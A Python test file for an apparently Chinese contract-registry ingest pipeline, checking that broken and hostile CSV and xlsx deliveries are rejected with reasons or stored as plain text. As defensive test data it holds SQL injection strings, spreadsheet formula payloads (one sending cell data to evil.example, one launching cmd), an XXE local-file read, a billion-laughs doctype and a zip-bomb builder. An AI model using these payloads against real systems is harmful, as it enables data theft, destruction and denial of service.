"""Hostile and broken deliveries: a clear error naming the file, row or cell; good rows
and good files still load; every rejected record or file is kept with its reason; a
rerun changes nothing."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
import zipfile
from pathlib import Path

from ledger import SAMPLE, assert_ledger_balances, load_rejects, raw_count
from openpyxl import Workbook

from ttw import load
from ttw.build import build
from ttw.extract.registry import COLUMNS
from ttw.ingest import ingest_contracts, ingest_reports
from ttw.quality import audit
from ttw.warehouse import connect

HEADER, *ROWS = list(csv.reader(SAMPLE.open(encoding="utf-8", newline="")))


def write_csv(path: Path, rows: list[list[str]], *, encoding: str = "utf-8", header=HEADER, bom=False) -> Path:
    buffer = io.StringIO()
    # \r\n, as the registry's own exports end lines: a field holding a lone \r is quoted too
    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode(encoding))
    return path


def ingest_twice(target, folder: Path):
    """Ingest a delivery folder, check the ledger, ingest it again: the rerun adds nothing."""
    first = ingest_contracts(target, [folder])
    assert_ledger_balances(target)
    with connect(target) as conn:
        before = conn.execute(
            "select (select count(*) from ops.load_batches), (select count(*) from ops.load_rejects),"
            " (select count(*) from raw.registry_contracts)"
        ).fetchone()
    again = ingest_contracts(target, [folder])
    with connect(target) as conn:
        after = conn.execute(
            "select (select count(*) from ops.load_batches), (select count(*) from ops.load_rejects),"
            " (select count(*) from raw.registry_contracts)"
        ).fetchone()
    assert after == before
    assert all(batch.skipped for batch in again.batches)
    assert again.errors == first.errors
    return first


def test_gb18030_bytes_under_a_utf8_byte_order_mark_are_kept_row_by_row(clean_target, good_export):
    bad = write_csv(good_export.parent / "contracts_202402.csv", ROWS[:5], encoding="gb18030", bom=True)
    report = ingest_twice(clean_target, good_export.parent)
    assert report.ok
    good, wrong = report.batches
    assert (good.rows_received, good.rows_loaded) == (len(ROWS), len(ROWS))
    assert (wrong.rows_received, wrong.rows_loaded, len(wrong.rejected)) == (5, 0, 5)
    assert load_rejects(clean_target, "registry_contracts") == [
        (bad.name, n, f"line {n + 1}", "invalid_encoding", "column project_name holds bytes that are not UTF8 text")
        for n in range(1, 6)
    ]
    with connect(clean_target) as conn:  # the record is kept, its undecodable bytes escaped
        kept = conn.execute("select payload->'fields'->>0, payload->'fields'->>1 from ops.load_rejects").fetchall()
    assert [number for number, _ in kept] == [row[0] for row in ROWS[:5]]
    assert all("\\x" in name for _, name in kept)


def test_a_truncated_last_line_is_rejected_as_such_and_the_rest_loads(clean_target, good_export):
    data = SAMPLE.read_bytes()
    cut = good_export.parent / "contracts_202402.csv"
    cut.write_bytes(data[: data.rstrip().rfind(b",", 0, len(data) - 60)])
    report = ingest_twice(clean_target, good_export.parent)
    _, truncated = report.batches
    assert (truncated.rows_received, truncated.rows_loaded) == (len(ROWS), len(ROWS) - 1)
    [(name, number, location, rule, reason)] = load_rejects(clean_target, "registry_contracts")
    assert (name, number, location, rule) == (cut.name, len(ROWS), f"line {len(ROWS) + 1}", "wrong_field_count")
    assert "expected 22" in reason
    assert "truncated delivery" in reason


def test_empty_header_only_and_wrong_header_files(clean_target, good_export):
    folder = good_export.parent
    (folder / "contracts_202402.csv").write_bytes(b"")
    write_csv(folder / "contracts_202403.csv", [])
    write_csv(folder / "contracts_202404.csv", [[*r, "x"] for r in ROWS], header=[*HEADER, "备注"])
    drop = HEADER.index("tech_field")
    write_csv(
        folder / "contracts_202405.csv",
        [r[:drop] + r[drop + 1 :] for r in ROWS],
        header=HEADER[:drop] + HEADER[drop + 1 :],
    )
    keep = len(HEADER) - 2  # no contact columns: optional, they load empty
    write_csv(folder / "contracts_202406.csv", [r[:keep] for r in ROWS], header=HEADER[:keep])

    report = ingest_twice(clean_target, folder)
    assert report.errors == [
        f"{folder}/contracts_202402.csv: file is empty, expected a header row",
        f"{folder}/contracts_202404.csv: header column 23 '备注' is not a contract registry column"
        " (expected a name such as registration_no or a label such as 合同登记编号)",
        f"{folder}/contracts_202405.csv: required column 'tech_field' (技术领域) is missing from the header",
    ]
    assert [(Path(b.source).name, b.rows_loaded) for b in report.batches] == [
        ("contracts_202401.csv", len(ROWS)),
        ("contracts_202403.csv", 0),
        ("contracts_202406.csv", len(ROWS)),
    ]
    assert [(name, rule) for name, _, _, rule, _ in load_rejects(clean_target, "registry_contracts")] == [
        ("contracts_202402.csv", "file_rejected"),
        ("contracts_202404.csv", "file_rejected"),
        ("contracts_202405.csv", "file_rejected"),
    ]
    no_contacts = "_source_file like '%%202406.csv' and contact_name is null and contact_phone is null"
    assert raw_count(clean_target, "registry_contracts", no_contacts) == len(ROWS)


def test_records_with_extra_or_missing_fields_are_kept_and_the_others_keep_their_row_numbers(clean_target, good_export):
    rows = [list(r) for r in ROWS]
    rows[4].append("an extra field")
    rows[8] = rows[8][:-2]
    path = good_export.rename(good_export.parent / "contracts_202402.csv")
    write_csv(path, rows)
    report = ingest_twice(clean_target, path.parent)
    [batch] = report.batches
    assert (batch.rows_received, batch.rows_loaded) == (len(ROWS), len(ROWS) - 2)
    assert [(n, loc, rule) for _, n, loc, rule, _ in load_rejects(clean_target, "registry_contracts")] == [
        (5, "line 6", "wrong_field_count"),
        (9, "line 10", "wrong_field_count"),
    ]
    assert report.problems[0].startswith(f"{path}: row 5 (line 6): 23 fields, expected 22")
    with connect(clean_target) as conn:
        loaded = conn.execute("select _row_number, registration_no from raw.registry_contracts order by 1").fetchall()
    assert loaded == [(n, r[0]) for n, r in enumerate(ROWS, start=1) if n not in (5, 9)]


def test_a_duplicated_delivery_is_a_no_op_under_any_name(clean_target, good_export, tmp_path):
    other = tmp_path / "elsewhere"
    other.mkdir()
    shutil.copy2(good_export, other / good_export.name)
    shutil.copy2(good_export, good_export.parent / "contracts_202401_resent.csv")
    report = ingest_contracts(clean_target, [good_export.parent, other])
    assert [b.skipped for b in report.batches] == [False, True, True]
    assert raw_count(clean_target, "registry_contracts") == len(ROWS)
    assert_ledger_balances(clean_target)


def test_a_10_mb_field_with_quotes_and_line_breaks_loads_losslessly(clean_target, good_export):
    unit = '长"字段\n'  # 11 bytes: a quote to escape and a line break in each
    big = unit * (10 * 1024 * 1024 // len(unit.encode("utf-8")))
    rows = [list(r) for r in ROWS]
    rows[3][1] = big
    path = write_csv(good_export.parent / "contracts_202402.csv", rows)
    report = ingest_twice(clean_target, path.parent)
    assert report.ok
    assert report.batches[1].rows_loaded == len(ROWS)
    with connect(clean_target) as conn:
        stored = conn.execute(
            "select md5(project_name) from raw.registry_contracts where _source_file = %s and _row_number = 4",
            (str(path),),
        ).fetchone()[0]
    assert stored == hashlib.md5(big.encode("utf-8")).hexdigest()


HOSTILE = [
    "say \"hello\", then 'bye'",
    "two\nlines\r\nand a carriage return\r",
    "'); drop table raw.registry_contracts; --",
    "Robert'); delete from ops.load_batches where ('1'='1",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\\N",
    "",
]


def test_quotes_line_breaks_and_injection_text_are_kept_as_plain_text(clean_target, good_export):
    rows = [list(r) for r in ROWS[: len(HOSTILE)]]
    for row, text in zip(rows, HOSTILE, strict=True):
        row[1] = text
    path = write_csv(good_export.parent / "contracts_202402.csv", rows)
    report = ingest_twice(clean_target, path.parent)
    assert report.ok
    with connect(clean_target) as conn:
        stored = conn.execute(
            "select coalesce(project_name, '<null>') from raw.registry_contracts where _source_file = %s"
            " order by _row_number",
            (str(path),),
        ).fetchall()
        tables = conn.execute("select count(*) from ops.load_batches").fetchone()[0]
    # an unquoted empty field is NULL, as COPY reads CSV; everything else exactly as sent
    assert [s for (s,) in stored] == [*HOSTILE[:-1], "<null>"]
    assert tables == 2


def test_nul_bytes_are_rejected_with_their_column_and_the_rest_loads(clean_target, good_export):
    rows = [list(r) for r in ROWS]
    rows[2][6] = "青岛\x00科技"
    path = good_export.rename(good_export.parent / "contracts_202402.csv")
    write_csv(path, rows)
    report = ingest_twice(clean_target, path.parent)
    assert report.batches[0].rows_loaded == len(ROWS) - 1
    [(_, number, location, rule, reason)] = load_rejects(clean_target, "registry_contracts")
    assert (number, location, rule) == (3, "line 4", "nul_byte")
    assert reason == "column seller_name holds a NUL byte, which text cannot hold"
    with connect(clean_target) as conn:
        kept = conn.execute("select payload->'fields'->>6 from ops.load_rejects").fetchone()[0]
    assert kept == "青岛\\x00科技"


# --- xlsx ---------------------------------------------------------------------------

LOCAL_TEXT = "ttw-local-file-test-4711"  # what a local file an entity names holds


def sheet_xml(cells: list[list[str]], doctype: str = "") -> str:
    rows = "".join(
        f'<row r="{r}">'
        + "".join(f'<c r="{chr(65 + c)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for c, v in enumerate(row))
        + "</row>"
        for r, row in enumerate(cells, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData></worksheet>"
    )


def workbook_with_sheet(path: Path, xml: str | None = None, *, bomb_bytes: int = 0, title: str = "Sheet") -> Path:
    """An xlsx written by openpyxl whose first sheet's XML is replaced by ``xml`` (or padded
    with ``bomb_bytes`` of blanks, deflating about a thousandfold)."""
    book = Workbook()
    book.active.title = title
    book.active["A1"] = "placeholder"
    plain = path.with_suffix(".plain.xlsx")
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dest:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                if bomb_bytes:
                    with dest.open(item.filename, "w", force_zip64=True) as part:
                        part.write(data.replace(b"<sheetData>", b"<sheetData>")[: data.index(b"<sheetData>")])
                        blanks = b" " * (1 << 20)
                        for _ in range(bomb_bytes >> 20):
                            part.write(blanks)
                    continue
                data = (xml or data.decode()).encode("utf-8")
            dest.writestr(item, data)
    plain.unlink()
    return path


def xxe_doctype(secret_file: Path) -> str:
    return f'<!DOCTYPE worksheet [<!ENTITY leak SYSTEM "file://{secret_file}">]>'


LAUGHS = (
    '<!DOCTYPE worksheet [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)


def test_hostile_registry_workbooks_are_refused_and_the_good_export_loads(clean_target, good_export, tmp_path):
    folder = good_export.parent
    secret = tmp_path / "secret.txt"
    secret.write_text(LOCAL_TEXT)
    (folder / "contracts_202402.xlsx").write_text("registration_no,project_name\n")  # not a zip
    workbook_with_sheet(folder / "contracts_202403.xlsx", bomb_bytes=300 << 20)
    row = [ROWS[0][i] for i in range(len(COLUMNS))]
    row[1] = "&leak;"
    workbook_with_sheet(folder / "contracts_202404.xlsx", sheet_xml([list(COLUMNS), row], xxe_doctype(secret)))
    row[1] = "&d;"
    workbook_with_sheet(folder / "contracts_202405.xlsx", sheet_xml([list(COLUMNS), row], LAUGHS))

    report = ingest_twice(clean_target, folder)
    assert [Path(b.source).name for b in report.batches] == ["contracts_202401.csv"]
    bad_zip, bomb, xxe, laughs = report.errors
    assert bad_zip.startswith(f"{folder}/contracts_202402.xlsx: not a readable xlsx workbook (not a zip archive")
    assert bomb.startswith(f"{folder}/contracts_202403.xlsx: part xl/worksheets/sheet1.xml inflates")
    assert "a zip bomb, not a workbook" in bomb
    assert xxe.startswith(f"{folder}/contracts_202404.xlsx: not a readable xlsx workbook (EntitiesForbidden")
    assert laughs.startswith(f"{folder}/contracts_202405.xlsx: not a readable xlsx workbook (EntitiesForbidden")
    with connect(clean_target) as conn:
        leaked = conn.execute(
            "select count(*) from raw.registry_contracts as r where r::text like %s", (f"%{LOCAL_TEXT}%",)
        ).fetchone()[0]
    assert leaked == 0
    assert raw_count(clean_target, "registry_contracts") == len(ROWS)


def test_hostile_report_workbooks_are_refused_and_the_good_ones_load(clean_target, small_dataset, tmp_path):
    good = sorted((small_dataset / "reports").rglob("年度报告_*.xlsx"))[:3]
    folder = tmp_path / "reports"
    folder.mkdir()
    for path in good:
        shutil.copy2(path, folder / path.name)
    secret = tmp_path / "secret.txt"
    secret.write_text(LOCAL_TEXT)
    (folder / "年度报告_QDX901_2024.xlsx").write_bytes(b"PK\x03\x04 truncated archive")
    workbook_with_sheet(folder / "年度报告_QDX902_2024.xlsx", bomb_bytes=300 << 20, title="基本信息")
    workbook_with_sheet(
        folder / "年度报告_QDX903_2024.xlsx",
        sheet_xml([["中心编号", "&leak;"], ["报告年度", "2024"]], xxe_doctype(secret)),
        title="基本信息",
    )

    report = ingest_reports(clean_target, [folder])
    assert sorted(Path(b.source).name for b in report.batches) == sorted(p.name for p in good)
    assert len(report.errors) == 3
    not_zip, bomb, xxe = sorted(report.errors)
    assert "年度报告_QDX901_2024.xlsx: not a readable xlsx workbook (not a zip archive" in not_zip
    assert "年度报告_QDX902_2024.xlsx: part xl/worksheets/sheet1.xml inflates" in bomb
    assert "年度报告_QDX903_2024.xlsx: not a readable xlsx workbook (EntitiesForbidden" in xxe
    assert [(name, rule) for name, _, _, rule, _ in load_rejects(clean_target, "center_reports")] == [
        ("年度报告_QDX901_2024.xlsx", "unreadable_file"),
        ("年度报告_QDX902_2024.xlsx", "unreadable_file"),
        ("年度报告_QDX903_2024.xlsx", "unreadable_file"),
    ]
    assert raw_count(clean_target, "report_fields", "value like %s", (f"%{LOCAL_TEXT}%",)) == 0
    assert_ledger_balances(clean_target)


def test_a_stray_quote_is_reported_where_it_swallows_the_rest_of_the_file(clean_target, good_export):
    # no quote in the file to close it: no quote in a value, no comma (a "3,300,000" is quoted)
    rows = [[field.replace('"', "").replace(",", "") for field in row] for row in ROWS]
    path = good_export.rename(good_export.parent / "contracts_202402.csv")
    write_csv(path, rows)
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    lines[60] = lines[60].replace(",", ',"', 1)  # record 60 opens a quote it never closes
    path.write_text("".join(lines), encoding="utf-8")
    report = ingest_twice(clean_target, path.parent)
    [batch] = report.batches
    assert (batch.rows_received, batch.rows_loaded) == (60, 59)
    [(_, number, location, rule, reason)] = load_rejects(clean_target, "registry_contracts")
    assert (number, location, rule) == (60, "lines 61-63", "wrong_field_count")
    assert "it runs on to the end of the file: a quote never closed?" in reason
    with connect(clean_target) as conn:  # the swallowed records are kept, inside the one reject
        kept = conn.execute("select payload->'fields'->>1 from ops.load_rejects").fetchone()[0]
    assert ROWS[61][0] in kept


def test_a_file_with_too_many_bad_records_is_rejected_whole(clean_target, good_export, monkeypatch):
    monkeypatch.setattr(load, "MAX_RECORD_REJECTS", 3)
    bad = write_csv(good_export.parent / "contracts_202402.csv", ROWS[:5], encoding="gb18030", bom=True)
    report = ingest_twice(clean_target, good_export.parent)
    assert report.errors == [
        f"{bad}: more than 3 records refused (the first: row 1, line 2: column project_name holds bytes"
        " that are not UTF8 text); the file is rejected whole"
    ]
    assert raw_count(clean_target, "registry_contracts", "_source_file = %s", (str(bad),)) == 0
    assert [(n, rule) for _, n, _, rule, _ in load_rejects(clean_target, "registry_contracts")] == [
        (None, "file_rejected")
    ]


def test_records_the_loader_rejects_pass_the_build_and_audit_and_show_in_ops_rejects(
    clean_target, settings, good_export
):
    rows = [list(r) for r in ROWS]
    rows[4].append("an extra field")
    rows[7][1] = "a lone carriage return\rinside"  # loads as it is, beside a record that does not
    path = good_export.rename(good_export.parent / "contracts_sample.csv")  # spans 18 months
    write_csv(path, rows)
    report = ingest_contracts(clean_target, [path])
    assert report.batches[0].rows_loaded == len(ROWS) - 1
    with connect(clean_target) as conn:
        carriage = conn.execute("select project_name from raw.registry_contracts where _row_number = 8").fetchone()[0]
    assert carriage == rows[7][1]

    assert "Completed successfully" in build(settings, clean_target)  # the nothing-lost dbt tests pass
    audited = audit(settings, clean_target)
    assert audited.ok, audited.failed_critical
    with connect(clean_target) as conn:
        shown = conn.execute(
            "select source_row_number, rule_name, rejected_at_stage from ops.rejects where rejected_at_stage = 'load'"
        ).fetchall()
        facts = conn.execute("select count(*) from marts_build.fct_tech_contracts").fetchone()[0]
    assert shown == [(5, "wrong_field_count", "load")]
    assert facts == len({row[0] for number, row in enumerate(ROWS, start=1) if number != 5})
